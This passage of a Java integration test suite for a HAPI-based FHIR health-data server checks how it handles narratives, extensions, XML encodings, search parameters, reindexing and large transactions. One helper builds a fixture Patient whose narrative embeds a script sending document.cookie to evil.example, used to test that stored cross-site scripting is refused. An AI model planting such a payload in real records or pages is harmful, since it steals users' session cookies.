				FhirHttp.FHIR_JSON);
		assertThat(transaction.status()).as(transaction.body()).isEqualTo(422);
		assertThat(errors(transaction.as(OperationOutcome.class))).anySatisfy(error -> assertThat(error)
				.startsWith("[Bundle.entry[1].resource.ofType(Condition).text.div]").contains("onclick"));
		assertThat(fhir.get("/fhir/Patient?identifier=" + TEST_SYSTEM + "%7C" + marker).as(Bundle.class).getEntry()).isEmpty();

		Response batch = fhir.post("/fhir", "{\"resourceType\": \"Bundle\", \"type\": \"batch\", \"entry\": "
				+ entries.replace("urn:uuid:" + patientUuid + "\"}", "Patient/" + newPatient() + "\"}") + "}", FhirHttp.FHIR_JSON);
		assertThat(batch.status()).as(batch.body()).isEqualTo(200);
		Bundle result = batch.as(Bundle.class);
		assertThat(result.getEntry().get(0).getResponse().getStatus()).startsWith("201");
		assertThat(result.getEntry().get(1).getResponse().getStatus()).startsWith("422");
		assertThat(errors((OperationOutcome) result.getEntry().get(1).getResponse().getOutcome()))
				.anySatisfy(error -> assertThat(error).startsWith("[Condition.text.div]").contains("onclick"));
	}

	@Test
	public void aNarrativeTheParserCannotRead_isRefusedWith400AtItsPlace_onEveryWay_in() {
		String marker = UUID.randomUUID().toString();
		String patient = """
				{"resourceType": "Patient", "text": {"status": "generated", "div": "<p>Jane Doe</p>"},
				 "identifier": [{"system": "%s", "value": "%s"}]}""".formatted(TEST_SYSTEM, marker);
		String batch = "{\"resourceType\": \"Bundle\", \"type\": \"batch\", \"entry\": [{\"resource\": " + patient
				+ ", \"request\": {\"method\": \"POST\", \"url\": \"Patient\"}}]}";

		for (Response refused : List.of(
				fhir.post("/fhir/Patient", patient, FhirHttp.FHIR_JSON),
				fhir.put("/fhir/Patient/narrative-" + marker, patient.replace("{\"resourceType\": \"Patient\",",
						"{\"resourceType\": \"Patient\", \"id\": \"narrative-" + marker + "\","), FhirHttp.FHIR_JSON),
				fhir.post("/fhir", batch, FhirHttp.FHIR_JSON),
				validate("Patient", patient, null, null))) {
			assertThat(refused.status()).as(refused.body()).isEqualTo(400);
			assertThat(refused.as(OperationOutcome.class).getIssueFirstRep().getDiagnostics()).contains("text/div");
		}
		assertThat(fhir.get("/fhir/Patient?identifier=" + TEST_SYSTEM + "%7C" + marker).as(Bundle.class).getEntry()).isEmpty();
	}

	@Test
	public void anXmlNarrativeOutsideTheXhtmlNamespace_isRefusedWith422AtTheDiv_andValidateAgrees() {
		String marker = UUID.randomUUID().toString();
		String patient = ("<Patient xmlns=\"http://hl7.org/fhir\"><text><status value=\"generated\"/><div>Jane Doe</div></text>"
				+ "<identifier><system value=\"%s\"/><value value=\"%s\"/></identifier></Patient>").formatted(TEST_SYSTEM, marker);

		Response written = fhir.post("/fhir/Patient", patient, "application/fhir+xml");

		assertThat(written.status()).as(written.body()).isEqualTo(422);
		assertThat(errors(written.as(OperationOutcome.class)))
				.anySatisfy(error -> assertThat(error).startsWith("[Patient.text.div]").contains("http://hl7.org/fhir"));
		assertThat(fhir.get("/fhir/Patient?identifier=" + TEST_SYSTEM + "%7C" + marker).as(Bundle.class).getEntry()).isEmpty();
		Response validated = fhir.post("/fhir/Patient/$validate", patient, "application/fhir+xml");
		assertThat(errors(validated.as(OperationOutcome.class)))
				.anySatisfy(error -> assertThat(error).startsWith("[Patient.text.div]").contains("http://hl7.org/fhir"));

		String json = "{\"resourceType\": \"Patient\", \"text\": {\"status\": \"generated\", \"div\": \"<div>Jane Doe</div>\"}}";
		assertThat(fhir.post("/fhir/Patient", json, FhirHttp.FHIR_JSON).status()).isEqualTo(201); // JSON: read as XHTML
	}

	@Test
	public void anExtensionWithTwoValues_isRefusedWith400_inJsonAndXml_notStoredWithOneOfThem() {
		String marker = UUID.randomUUID().toString();
		String json = """
				{"resourceType": "Patient", "identifier": [{"system": "%s", "value": "%s"}],
				 "extension": [{"url": "http://example.org/fhir/StructureDefinition/occupation", "valueString": "nurse", "valueBoolean": true}]}"""
				.formatted(TEST_SYSTEM, marker);
		String xml = ("<Patient xmlns=\"http://hl7.org/fhir\"><extension url=\"http://example.org/fhir/StructureDefinition/occupation\">"
				+ "<valueString value=\"nurse\"/><valueBoolean value=\"true\"/></extension><identifier><system value=\"%s\"/>"
				+ "<value value=\"%s\"/></identifier></Patient>").formatted(TEST_SYSTEM, marker);

		for (Response refused : List.of(fhir.post("/fhir/Patient", json, FhirHttp.FHIR_JSON),
				fhir.post("/fhir/Patient", xml, "application/fhir+xml"))) {
			assertThat(refused.status()).as(refused.body()).isEqualTo(400);
			assertThat(refused.body()).contains("at most one value[x]");
		}
		assertThat(fhir.get("/fhir/Patient?identifier=" + TEST_SYSTEM + "%7C" + marker).as(Bundle.class).getEntry()).isEmpty();
	}

	/**
	 * A given name known only by its extension (a data-absent-reason), written without a value in the value list or with a
	 * value list that stops before it: HAPI's parser refused the first (422) and dropped the extension of the second (201).
	 */
	@Test
	public void givenNamesKnownOnlyByTheirExtensions_areStoredWithThem_howeverLongTheValueListIsWritten() {
		String absent = "{\"extension\": [{\"url\": \"http://hl7.org/fhir/StructureDefinition/data-absent-reason\","
				+ " \"valueCode\": \"masked\"}]}";
		for (String names : List.of(
				"\"_given\": [" + absent + "]",
				"\"given\": [\"Ann\"], \"_given\": [null, " + absent + "]")) {
			String marker = UUID.randomUUID().toString();
			String patient = """
					{"resourceType": "Patient", "identifier": [{"system": "%s", "value": "%s"}],
					 "name": [{"family": "Doe", %s}]}""".formatted(TEST_SYSTEM, marker, names);
			String batch = "{\"resourceType\": \"Bundle\", \"type\": \"batch\", \"entry\": [{\"resource\": " + patient
					+ ", \"request\": {\"method\": \"POST\", \"url\": \"Patient\"}}]}";

			Response created = fhir.post("/fhir/Patient", patient, FhirHttp.FHIR_JSON);
			Response batched = fhir.post("/fhir", batch, FhirHttp.FHIR_JSON);
			Response validated = validate("Patient", patient, null, null);

			assertThat(created.status()).as(created.body()).isEqualTo(201);
			assertThat(batched.as(Bundle.class).getEntryFirstRep().getResponse().getStatus()).as(batched.body()).startsWith("201");
			assertThat(errors(validated.as(OperationOutcome.class))).as(validated.body()).isEmpty();
			List<Bundle.BundleEntryComponent> stored = fhir.get("/fhir/Patient?identifier=" + TEST_SYSTEM + "%7C" + marker)
					.as(Bundle.class).getEntry();
			assertThat(stored).hasSize(2).allSatisfy(entry -> {
				List<org.hl7.fhir.r4.model.StringType> given = ((Patient) entry.getResource()).getNameFirstRep().getGiven();
				assertThat(given.get(given.size() - 1).hasValue()).isFalse();
				assertThat(given.get(given.size() - 1).getExtensionByUrl(
						"http://hl7.org/fhir/StructureDefinition/data-absent-reason").getValue().primitiveValue()).isEqualTo("masked");
			});
		}
	}

	/**
	 * A Patient in the shapes of the Dutch nl-core profiles (not held here): a family name split by extensions on
	 * {@code _family}, given names qualified on {@code _given}, an address line split into street and house number on
	 * {@code _line}, a code specification on {@code _gender} and {@code _country}, and a nickname known only by its
	 * data-absent-reason. Each primitive extension is stored and read back.
	 */
	@Test
	public void aPatientWithPrimitiveExtensionsEverywhere_nlCoreShaped_isStoredWithEveryOne() {
		String marker = UUID.randomUUID().toString();

		Response created = fhir.post("/fhir/Patient", fixture("Patient-nl-core-primitive-extensions.json", marker), FhirHttp.FHIR_JSON);

		assertThat(created.status()).as(created.body()).isEqualTo(201);
		Patient stored = fhir.get(location(created)).as(Patient.class);
		assertThat(stored.getNameFirstRep().getFamilyElement().getExtension()).hasSize(2);
		assertThat(stored.getNameFirstRep().getGiven()).allSatisfy(given -> assertThat(given.getExtension()).hasSize(1));
		assertThat(stored.getAddressFirstRep().getLine().get(0).getExtension()).hasSize(2);
		assertThat(stored.getAddressFirstRep().getCountryElement().getExtension()).hasSize(1);
		assertThat(stored.getGenderElement().getExtension()).hasSize(1);
		assertThat(stored.getName().get(1).getGiven()).singleElement().satisfies(given -> {
			assertThat(given.hasValue()).isFalse();
			assertThat(given.getExtensionByUrl("http://hl7.org/fhir/StructureDefinition/data-absent-reason")).isNotNull();
		});
	}

	@Test
	public void aPrimitiveWithOnlyAnId_isRefusedWith422AtIt() {
		Response refused = fhir.post("/fhir/Patient", "{\"resourceType\": \"Patient\", \"name\": [{\"family\": \"Doe\","
				+ " \"given\": [\"Ann\", null], \"_given\": [null, {\"id\": \"g2\"}]}]}", FhirHttp.FHIR_JSON);

		assertThat(refused.status()).as(refused.body()).isEqualTo(422);
		assertThat(errors(refused.as(OperationOutcome.class)))
				.anySatisfy(error -> assertThat(error).startsWith("[Patient.name[0].given[1]]").contains("ele-1"));
	}

	/** HAPI's XML parser reads no text in a FHIR element and drops an element with neither value nor children. */
	@Test
	public void xmlWithTextForAValue_orAnEmptyElement_isRefusedWith400_notStoredWithoutIt() {
		String marker = UUID.randomUUID().toString();
		String identifier = "<identifier><system value=\"%s\"/><value value=\"%s\"/></identifier>".formatted(TEST_SYSTEM, marker);
		for (String content : List.of("<name><family>Doe</family></name>", "<birthDate>1970-01-01</birthDate>", "<gender/>")) {
			Response refused = fhir.post("/fhir/Patient", "<Patient xmlns=\"http://hl7.org/fhir\">" + identifier + content
					+ "</Patient>", "application/fhir+xml");

			assertThat(refused.status()).as(refused.body()).isEqualTo(400);
			assertThat(refused.as(OperationOutcome.class).getIssueFirstRep().getDiagnostics())
					.containsAnyOf("holds text", "neither a value attribute nor child elements");
		}
		// HAPI's parser reads XML without FHIR's namespace as FHIR too
		Response namespaceless = fhir.post("/fhir/Patient", "<Patient>" + identifier + "<name><family>Doe</family></name></Patient>",
				"application/fhir+xml");
		assertThat(namespaceless.status()).as(namespaceless.body()).isEqualTo(400);
		assertThat(fhir.get("/fhir/Patient?identifier=" + TEST_SYSTEM + "%7C" + marker).as(Bundle.class).getEntry()).isEmpty();
	}

	/** HAPI's parser reads every body as UTF-8: an XML declaring ISO-8859-1 was stored with U+FFFD for each accented letter. */
	@Test
	public void fhirXmlInAnotherEncodingThanUtf8_isRefusedWith415_notStoredGarbled() {
		String marker = UUID.randomUUID().toString();
		byte[] latin1 = ("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><Patient xmlns=\"http://hl7.org/fhir\"><identifier>"
				+ "<system value=\"%s\"/><value value=\"%s\"/></identifier><name><family value=\"Jos\u00e9\"/></name></Patient>")
				.formatted(TEST_SYSTEM, marker).getBytes(StandardCharsets.ISO_8859_1);

		Response refused = fhir.post("/fhir/Patient", latin1, "application/fhir+xml");

		assertThat(refused.status()).as(refused.body()).isEqualTo(415);
		assertThat(refused.as(OperationOutcome.class).getIssueFirstRep().getDiagnostics()).contains("UTF-8", "ISO-8859-1");
		assertThat(fhir.get("/fhir/Patient?identifier=" + TEST_SYSTEM + "%7C" + marker).as(Bundle.class).getEntry()).isEmpty();
		Response utf8 = fhir.post("/fhir/Patient", new String(latin1, StandardCharsets.ISO_8859_1).replace("ISO-8859-1", "UTF-8")
				.getBytes(StandardCharsets.UTF_8), "application/fhir+xml");
		assertThat(utf8.status()).as(utf8.body()).isEqualTo(201);
		assertThat(fhir.get(location(utf8)).as(Patient.class).getNameFirstRep().getFamily()).isEqualTo("Jos\u00e9");
	}

	@Test
	public void anXmlExtensionWithNeitherValueNorExtensions_isRefusedWith400_asJsonsIs422() {
		Response xml = fhir.post("/fhir/Patient", "<Patient xmlns=\"http://hl7.org/fhir\"><extension url=\"http://example.org/x\"/>"
				+ "<active value=\"true\"/></Patient>", "application/fhir+xml");
		Response json = fhir.post("/fhir/Patient", "{\"resourceType\": \"Patient\", \"extension\": [{\"url\": \"http://example.org/x\"}],"
				+ " \"active\": true}", FhirHttp.FHIR_JSON);

		assertThat(xml.status()).as(xml.body()).isEqualTo(400);
		assertThat(xml.body()).contains("ext-1");
		assertThat(json.status()).as(json.body()).isEqualTo(422);
	}

	/**
	 * HAPI stores a Binary's body as it is when its content type is not strictly FHIR's: a C-CDA document as text/xml,
	 * a JSON document as application/json. The guard's FHIR rules (text in an element, empty elements, padded lists) must
	 * leave such content alone.
	 */
	@Test
	public void aBinarysOwnXmlOrJsonContent_isStoredByteForByte_notHeldToFhirsShapes() {
		String cda = "<ClinicalDocument xmlns=\"urn:hl7-org:v3\"><realmCode code=\"US\"/><title>Discharge summary</title>"
				+ "<component/></ClinicalDocument>";
		String json = "{\"_links\":[{\"href\":\"https://example.org/a\"}],\"resourceType\":\"Patient\",\"name\":[{"
				+ "\"_given\":[{\"id\":\"g\"}]}]}";
		for (String[] content : new String[][] {{cda, "text/xml"}, {json, "application/json"}, {"\uFEFF" + json, "application/json"}}) {
			Response created = fhir.post("/fhir/Binary", content[0].getBytes(StandardCharsets.UTF_8), content[1]);

			assertThat(created.status()).as(created.body()).isEqualTo(201);
			org.hl7.fhir.r4.model.Binary stored = fhir.get(location(created), "Accept", "application/fhir+json")
					.as(org.hl7.fhir.r4.model.Binary.class);
			assertThat(stored.getData()).isEqualTo(content[0].getBytes(StandardCharsets.UTF_8));
			assertThat(stored.getContentType()).startsWith(content[1]);
		}
	}

	static String scriptedPatient(String marker) {
		return """
				{"resourceType": "Patient",
				 "text": {"status": "generated",
				          "div": "<div xmlns=\\"http://www.w3.org/1999/xhtml\\"><p>Jane Doe</p><script>fetch('https://evil.example/?c=' + document.cookie)</script></div>"},
				 "identifier": [{"system": "%s", "value": "%s"}],
				 "name": [{"family": "Doe", "given": ["Jane"]}]}""".formatted(TEST_SYSTEM, marker);
	}

	// ---- further packages and the profile parameter ----

	@Test
	public void packageListedInTheSettings_isInstalledOnceAndItsProfileEnforced() {
		assertThat(fhir.get("/fhir/StructureDefinition?url=" + TestPackage.PROFILE).as(Bundle.class).getEntry()).hasSize(1);

		Patient withoutBirthDate = new Patient();
		withoutBirthDate.getMeta().addProfile(TestPackage.PROFILE);
		withoutBirthDate.addName().setFamily("Package").addGiven("Test");
		Response refused = fhir.postResource("/fhir/Patient", withoutBirthDate);
		assertThat(refused.status()).isEqualTo(422);
		assertThat(refused.body()).contains("Patient.birthDate");

		withoutBirthDate.setBirthDateElement(new org.hl7.fhir.r4.model.DateType("1980-02-29"));
		assertThat(fhir.postResource("/fhir/Patient", withoutBirthDate).status()).isEqualTo(201);

		PackageInstaller installer = new PackageInstaller(packageInstallerSvc, packageCache, daoRegistry, FhirHttp.FHIR);
		assertThat(extraPackages).singleElement().satisfies(extra -> {
			assertThat(extra.name()).isEqualTo(TestPackage.NAME);
			assertThat(installer.installIfChanged(extra).installed()).as("unchanged package: install skipped").isFalse();
		});
	}

	@Test
	public void validate_takesTheProfileParameterInTheBodyAndOnTheUrl() {
		String patient = "{\"resourceType\": \"Patient\", \"name\": [{\"family\": \"Profile\"}]}";
		assertThat(errors(validate("Patient", patient, null, null).as(OperationOutcome.class))).isEmpty();
		assertThat(errors(validate("Patient", patient, TestPackage.PROFILE, null).as(OperationOutcome.class)))
				.anySatisfy(error -> assertThat(error).contains("Patient.birthDate"));
		assertThat(errors(validate("Patient", patient, null, TestPackage.PROFILE).as(OperationOutcome.class)))
				.anySatisfy(error -> assertThat(error).contains("Patient.birthDate"));
		// a held profile in the body is held: HAPI passed it on as "UriType[...]", named as not held (probe 54, P54-M1)
		String conforming = "{\"resourceType\": \"Patient\", \"birthDate\": \"1980-02-29\", \"name\": [{\"family\": \"Profile\"}]}";
		assertThat(validate("Patient", conforming, TestPackage.PROFILE, null).as(OperationOutcome.class).getIssue())
				.noneSatisfy(issue -> assertThat(issue.getExpression()).extracting(e -> e.getValue()).contains("Parameters.profile"));
	}

	// ---- search parameters ----

	@Test
	public void packageSearchParameter_findsUsCorePatientsByRace_andOneRedefiningACoreParameterIsNotInstalled() {
		String id = created(fhir.post("/fhir/Patient", fixture("Patient-us-core-generator.json", UUID.randomUUID().toString()),
				FhirHttp.FHIR_JSON));

		assertThat(fhir.get("/fhir/SearchParameter?url=" + TestPackage.RACE_PARAMETER).as(Bundle.class).getEntry()).hasSize(1);
		assertThat(ids("/fhir/Patient?race=2106-3&_id=" + id)).containsExactly(id);
		assertThat(ids("/fhir/Patient?race=2054-5&_id=" + id)).isEmpty();

		assertThat(fhir.get("/fhir/SearchParameter?url=" + TestPackage.NAME_REDEFINED).as(Bundle.class).getEntry()).isEmpty();
		assertThat(ids("/fhir/Patient?name=Real&_id=" + id)).as("the core name still covers given names").containsExactly(id);
	}

	/**
	 * Also after a transaction that HAPI rolled back with a SearchParameter in it, which in HAPI 8.8 alone delays every
	 * later SearchParameter by up to a minute (SearchParameterActivation).
	 */
	@Test
	public void searchParameterStoredOverRest_worksAtOnce_andFindsPatientsStoredBeforeAndAfterIt() throws InterruptedException {
		assertThat(fhir.postResource("/fhir", transactionWith(searchParameter(
				"http://example.org/fhir/intake-test/SearchParameter/rolled-back", "Observation", "code", "Observation.meta.tag")))
				.status()).isEqualTo(422);
		String patient = fixture("Patient-us-core-generator.json", UUID.randomUUID().toString());
		String before = created(fhir.post("/fhir/Patient", patient, FhirHttp.FHIR_JSON));
		org.hl7.fhir.r4.model.SearchParameter birthSex = searchParameter(
				"http://example.org/fhir/intake-test/SearchParameter/birthsex", "Patient", "birthsex",
				"Patient.extension.where(url = 'http://hl7.org/fhir/us/core/StructureDefinition/us-core-birthsex').value");
		birthSex.setId("intake-test-birthsex");
		assertThat(fhir.put("/fhir/SearchParameter/intake-test-birthsex", birthSex).status()).isEqualTo(201);
		String after = created(fhir.post("/fhir/Patient", patient, FhirHttp.FHIR_JSON));

		String search = "/fhir/Patient?birthsex=M&_id=" + before + "," + after;
		assertThat(ids(search)).as("stored after it: indexed on write").contains(after);
		long deadline = System.nanoTime() + java.util.concurrent.TimeUnit.SECONDS.toNanos(120);
		while (!ids(search).contains(before) && System.nanoTime() < deadline) {
			Thread.sleep(500);
		}
		assertThat(ids(search)).as("stored before it: indexed by HAPI's reindex job").containsExactlyInAnyOrder(before, after);
		assertThat(ids("/fhir/Patient?birthsex=F&_id=" + before + "," + after)).isEmpty();
	}

	/**
	 * Index rows a store lacks (resources stored before a SearchParameter that was never reindexed, or an upgrade whose
	 * release notes ask for a reindex) come back with $reindex: it answers 202 at once and names a status URL, which
	 * answers 202 while the job runs and 200 when it has finished.
	 */
	@Test
	public void reindexOperation_restoresIndexRowsTheStoreLacks_andItsStatusUrlSaysWhenItIsDone() throws Exception {
		String id = created(fhir.post("/fhir/Patient", fixture("Patient-us-core-generator.json", UUID.randomUUID().toString()),
				FhirHttp.FHIR_JSON));
		String search = "/fhir/Patient?gender=male&_id=" + id;
		assertThat(ids(search)).containsExactly(id);
		try (java.sql.Connection connection = dataSource.getConnection();
				java.sql.PreparedStatement delete = connection.prepareStatement("DELETE FROM HFJ_SPIDX_TOKEN WHERE RES_ID = "
						+ "(SELECT RES_ID FROM HFJ_RESOURCE WHERE RES_TYPE = 'Patient' AND FHIR_ID = ?)")) {
			delete.setString(1, id);
			assertThat(delete.executeUpdate()).as("the Patient's token index rows").isPositive();
		}
		assertThat(ids(search)).as("without its token rows").isEmpty();

		org.hl7.fhir.r4.model.Parameters body = new org.hl7.fhir.r4.model.Parameters();
		body.addParameter().setName("url").setValue(new org.hl7.fhir.r4.model.StringType("Patient?_id=" + id));
		Response started = fhir.postResource("/fhir/$reindex", body, "Prefer", "respond-async");
		assertThat(started.status()).isEqualTo(202);
		String status = started.header("Content-Location");
		String statusPath = status.substring(status.indexOf("/fhir/"));
		long deadline = System.nanoTime() + java.util.concurrent.TimeUnit.SECONDS.toNanos(120);
		Response polled = fhir.get(statusPath);
		while (polled.status() == 202 && System.nanoTime() < deadline) {
			Thread.sleep(500);
			polled = fhir.get(statusPath);
		}
		assertThat(polled.status()).as("the job's status once done").isEqualTo(200);
		assertThat(ids(search)).as("indexed again").containsExactly(id);
	}

	@ParameterizedTest(name = "{0}")
	@CsvSource({
		"Observation:code with a new expression, http://example.org/fhir/intake-test/SearchParameter/obs-code, Observation, code, SearchParameter.code",
		"every type's _id, http://example.org/fhir/intake-test/SearchParameter/any-id, Resource, _id, SearchParameter.code",
		"a new code under the core URLs, http://hl7.org/fhir/SearchParameter/Observation-code, Observation, my-code, SearchParameter.url"
	})
	public void searchParameterRedefiningACoreOne_isRefusedWith422_alsoInATransaction(
			String description, String url, String base, String code, String location) {
		org.hl7.fhir.r4.model.SearchParameter redefinition = searchParameter(url, base, code, base + ".meta.tag");

		Response refused = fhir.postResource("/fhir/SearchParameter", redefinition);
		assertThat(refused.status()).isEqualTo(422);
		assertThat(refused.as(OperationOutcome.class).getIssue()).singleElement().satisfies(issue -> {
			assertThat(issue.getSeverity()).isEqualTo(IssueSeverity.ERROR);
			assertThat(issue.getLocation()).extracting(l -> l.getValue()).containsExactly(location);
		});

		assertThat(fhir.postResource("/fhir", transactionWith(redefinition)).status()).isEqualTo(422);
		assertThat(fhir.get("/fhir/SearchParameter?url=" + URLEncoder.encode(url, StandardCharsets.UTF_8)).as(Bundle.class)
				.getEntry()).isEmpty();
	}

	/** An active token SearchParameter. */
	private static org.hl7.fhir.r4.model.SearchParameter searchParameter(
			String url, String base, String code, String expression) {
		org.hl7.fhir.r4.model.SearchParameter parameter = new org.hl7.fhir.r4.model.SearchParameter()
				.setUrl(url)
				.setName("Test")
				.setStatus(org.hl7.fhir.r4.model.Enumerations.PublicationStatus.ACTIVE)
				.setDescription("Test parameter " + code)
				.setCode(code)
				.setType(org.hl7.fhir.r4.model.Enumerations.SearchParamType.TOKEN)
				.setExpression(expression);
		parameter.addBase(base);
		return parameter;
	}

	/** A transaction of a new Patient and the SearchParameter. */
	private static Bundle transactionWith(org.hl7.fhir.r4.model.SearchParameter parameter) {
		Bundle transaction = new Bundle().setType(Bundle.BundleType.TRANSACTION);
		transaction.addEntry().setResource(newPatientResource()).getRequest()
				.setMethod(Bundle.HTTPVerb.POST).setUrl("Patient");
		transaction.addEntry().setResource(parameter).getRequest()
				.setMethod(Bundle.HTTPVerb.POST).setUrl("SearchParameter");
		return transaction;
	}

	// ---- terminology ----

	/** The code systems of terminology/ whose fragments the server holds and can filter. */
	private static final java.util.Set<String> HELD_FRAGMENTS = java.util.Set.of("http://www.whocc.no/atc");

	/**
	 * Whether HAPI can expand it: no filter but over a code system the server holds (the ATC fragment: HAPI filters
	 * its concepts), and at most 1,000 codes, counting the ValueSets it includes.
	 */
	private static boolean expandableHere(org.hl7.fhir.r4.model.ValueSet valueSet, List<Path> files) throws IOException {
		java.util.Map<String, org.hl7.fhir.r4.model.ValueSet> byUrl = new java.util.HashMap<>();
		for (Path file : files) {
			org.hl7.fhir.r4.model.ValueSet parsed =
					FhirHttp.FHIR.newJsonParser().parseResource(org.hl7.fhir.r4.model.ValueSet.class, Files.readString(file));
			byUrl.put(parsed.getUrl(), parsed);
		}
		return codes(valueSet, byUrl) <= 1_000;
	}

	/**
	 * Enumerated codes, counting included ValueSets; a filter over a code system the server does not hold counts as
	 * unexpandable, one over a held fragment as none of its codes (it holds none of the codes the filter looks for).
	 */
	private static int codes(org.hl7.fhir.r4.model.ValueSet valueSet, java.util.Map<String, org.hl7.fhir.r4.model.ValueSet> byUrl) {
		int count = 0;
		for (org.hl7.fhir.r4.model.ValueSet.ConceptSetComponent include : valueSet.getCompose().getInclude()) {
			if (include.hasFilter() && !HELD_FRAGMENTS.contains(include.getSystem())) {
				return Integer.MAX_VALUE;
			}
			count += include.getConcept().size();
			for (org.hl7.fhir.r4.model.CanonicalType included : include.getValueSet()) {
				org.hl7.fhir.r4.model.ValueSet other = byUrl.get(included.getValue());
				int nested = other == null ? 0 : codes(other, byUrl);
				if (nested == Integer.MAX_VALUE) {
					return Integer.MAX_VALUE; // an included ValueSet filters
				}
				count += nested;
			}
		}
		return count;
	}

	@Test
	public void expand_givesADisplayForEveryConceptOfOurValueSets_includingRxNorm() throws IOException {
		List<Path> valueSets;
		try (var files = Files.list(Path.of("terminology"))) {
			valueSets = files.filter(f -> f.getFileName().toString().startsWith("ValueSet-")).sorted().toList();
		}
		List<Path> ours;
		try (var files = Files.list(Path.of("terminology"))) {
			// the copied VSAC source sets are reached through the groups that include them
			ours = files.filter(f -> f.getFileName().toString().startsWith("ValueSet-")
					&& !f.getFileName().toString().startsWith("ValueSet-vsac-")).sorted().toList();
		}
		assertThat(valueSets).isNotEmpty();
		for (Path file : ours) {
			org.hl7.fhir.r4.model.ValueSet valueSet =
					FhirHttp.FHIR.newJsonParser().parseResource(org.hl7.fhir.r4.model.ValueSet.class, Files.readString(file));
			String url = valueSet.getUrl();
			Response expanded = fhir.get("/fhir/ValueSet/$expand?url=" + url);
			if (!expandableHere(valueSet, valueSets)) {
				// a filter over a code system the server does not hold (the ICD-10-CM C00-C96 pattern of the malignancy
				// group), or more codes than HAPI expands (1,000): refused with an OperationOutcome, never a 5xx
				assertThat(expanded.status()).as(url).isEqualTo(400);
				assertThat(expanded.as(OperationOutcome.class).getIssue()).as(url).isNotEmpty();
				continue;
			}
			assertThat(expanded.status()).as(url).isEqualTo(200);
			// every concept, the EGRIFTA RxCUIs too (their ValueSet's display: no verified source gives RxNorm's)
			assertThat(expanded.as(org.hl7.fhir.r4.model.ValueSet.class).getExpansion().getContains()).as(url).isNotEmpty()
					.allSatisfy(concept -> assertThat(concept.getDisplay()).as(url + " " + concept.getSystem() + "|" + concept.getCode()).isNotBlank());
		}
	}

	// ---- big real-world bundles ----

	@Test
	public void transactionOfMoreThan5000Entries_withConditionalReferencesIntoAnEarlierBatch_isStored() {
		String tag = UUID.randomUUID().toString().substring(0, 8);
		Response batch = fhir.postResource("/fhir", RealWorldBundles.providerBatch(tag, 10));
		assertThat(batch.status()).isEqualTo(200);
		assertThat(batch.as(Bundle.class).getEntry()).hasSize(30)
				.allSatisfy(entry -> assertThat(entry.getResponse().getStatus()).as(entry.getResponse().getOutcome() == null
						? "" : FhirHttp.FHIR.newJsonParser().encodeResourceToString(entry.getResponse().getOutcome())).startsWith("201"));

		Bundle transaction = RealWorldBundles.patientTransaction(tag, 10, 1000);
		assertThat(transaction.getEntry()).hasSizeGreaterThanOrEqualTo(5000);
		long start = System.nanoTime();
		Response stored = postSlowly(transaction);
		long millis = (System.nanoTime() - start) / 1_000_000;
		System.out.println("INTAKE transaction entries=" + transaction.getEntry().size() + " status=" + stored.status() + " ms=" + millis);

		assertThat(stored.status()).as(stored.body().substring(0, Math.min(2000, stored.body().length()))).isEqualTo(200);
		String patient = stored.as(Bundle.class).getEntryFirstRep().getResponse().getLocation().replaceAll("/_history/.*$", "");
		assertThat(fhir.get("/fhir/Encounter?subject=" + patient + "&_summary=count").as(Bundle.class).getTotal()).isEqualTo(1000);
		Encounter encounter = (Encounter) fhir.get("/fhir/Encounter?subject=" + patient + "&_count=1").as(Bundle.class)
				.getEntryFirstRep().getResource();
		assertThat(encounter.getServiceProvider().getReference()).startsWith("Organization/").doesNotContain("?");
		assertThat(fhir.get("/fhir/" + encounter.getServiceProvider().getReference()).status()).isEqualTo(200);
	}

	// ---- ids as EHRs number them ----

	@Test
	public void ehrExportWithNumericIds_isStoredUnderThoseIds_andTheServerAssignsUuids() {
		// an EHR that numbers its resources (Patient/12724066, Encounter/1036); random so that reruns never meet
		long base = 100_000_000L + new java.util.Random().nextInt(800_000_000);
		String patient = Long.toString(base);
		String encounter = Long.toString(base + 1);
		String condition = Long.toString(base + 2);
		String transaction = """
				{"resourceType": "Bundle", "type": "transaction", "entry": [
				  {"fullUrl": "Patient/%1$s", "resource": {"resourceType": "Patient", "id": "%1$s", "gender": "female",
				   "birthDate": "1971-04-02"}, "request": {"method": "PUT", "url": "Patient/%1$s"}},
				  {"fullUrl": "Encounter/%2$s", "resource": {"resourceType": "Encounter", "id": "%2$s", "status": "finished",
				   "class": {"system": "http://terminology.hl7.org/CodeSystem/v3-ActCode", "code": "AMB"},
				   "subject": {"reference": "Patient/%1$s"}}, "request": {"method": "PUT", "url": "Encounter/%2$s"}},
				  {"fullUrl": "Condition/%3$s", "resource": {"resourceType": "Condition", "id": "%3$s",
				   "clinicalStatus": {"coding": [{"system": "http://terminology.hl7.org/CodeSystem/condition-clinical", "code": "active"}]},
				   "code": {"coding": [{"system": "http://snomed.info/sct", "code": "254837009"}]},
				   "subject": {"reference": "Patient/%1$s"}, "encounter": {"reference": "Encounter/%2$s"}},
				   "request": {"method": "PUT", "url": "Condition/%3$s"}}
				]}""".formatted(patient, encounter, condition);

		Response stored = fhir.post("/fhir", transaction, FhirHttp.FHIR_JSON);

		assertThat(stored.status()).as(stored.body()).isEqualTo(200);
		assertThat(stored.as(Bundle.class).getEntry()).extracting(entry -> entry.getResponse().getLocation())
				.containsExactly("Patient/" + patient + "/_history/1", "Encounter/" + encounter + "/_history/1",
						"Condition/" + condition + "/_history/1");
		assertThat(fhir.get("/fhir/Encounter/" + encounter).status()).isEqualTo(200);
		assertThat(fhir.get("/fhir/Condition?subject=Patient/" + patient + "&encounter=Encounter/" + encounter)
				.as(Bundle.class).getEntry()).hasSize(1);
		// sent again, the same numeric ids name the same resources: updated (here unchanged), not created twice
		assertThat(fhir.post("/fhir", transaction, FhirHttp.FHIR_JSON).as(Bundle.class).getEntry())
				.allSatisfy(entry -> assertThat(entry.getResponse().getStatus()).startsWith("200"));
		assertThat(fhir.get("/fhir/Condition?subject=Patient/" + patient).as(Bundle.class).getEntry()).hasSize(1);

		// the server's own ids are UUIDs, so no server-assigned id can ever be a number a client uses
		Response created = fhir.post("/fhir/Patient", "{\"resourceType\": \"Patient\"}", FhirHttp.FHIR_JSON);
		assertThat(created.status()).isEqualTo(201);
		assertThat(created.as(Patient.class).getIdElement().getIdPart())
				.matches("[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}");
	}

	@Test
	public void jsonSavedWithAByteOrderMark_isStored_asWindowsToolsWriteIt() {
		String marker = UUID.randomUUID().toString();
		String transaction = """
				{"resourceType": "Bundle", "type": "transaction", "entry": [
